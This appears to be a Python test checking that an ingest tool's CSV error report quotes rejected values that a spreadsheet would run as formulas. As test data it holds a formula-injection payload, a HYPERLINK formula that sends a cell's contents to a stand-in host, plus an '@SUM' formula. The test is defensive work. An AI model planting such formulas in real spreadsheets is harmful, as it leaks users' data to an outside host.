"""An ingest's error report is a CSV people open in a spreadsheet: a rejected value that
would run there as a formula is written with a quote before it (`ironriver.csvcells`)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sales_fixtures import ROWS, write_csv  # type: ignore[import-not-found]

from ironriver.errors import IngestError
from ironriver.ingest import ingest_mapping
from ironriver.store import Store


def test_a_rejected_formula_is_quoted_in_the_report(sqlite_store: Store, sales_dir: Path) -> None:
    """The report holds the agency's rejected values as typed: `=HYPERLINK(...)` in a date
    column would open as a live link (review R5 F4); a rejected negative number stays a
    number. (Each value is reported once per use: the entity and the ledger read it.)"""
    rows = [list(r) for r in ROWS]
    rows[1][1] = '=HYPERLINK("http://x.example/?"&A1,"open")'
    rows[2][1] = "@SUM(A1:A9)"
    rows[3][1] = "-5"
    write_csv(sales_dir / "sales.csv", rows)
    with pytest.raises(IngestError) as err:
        ingest_mapping(sqlite_store, sales_dir / "sales.yaml", actor="alice")
    with Path(str(err.value.report_path)).open(encoding="utf-8") as fh:
        report = list(csv.DictReader(fh))
    assert sorted({(r["row"], r["value"]) for r in report if r["column"] == "sold"}) == [
        ("2", '\'=HYPERLINK("http://x.example/?"&A1,"open")'),
        ("3", "'@SUM(A1:A9)"),
        ("4", "-5"),
    ]
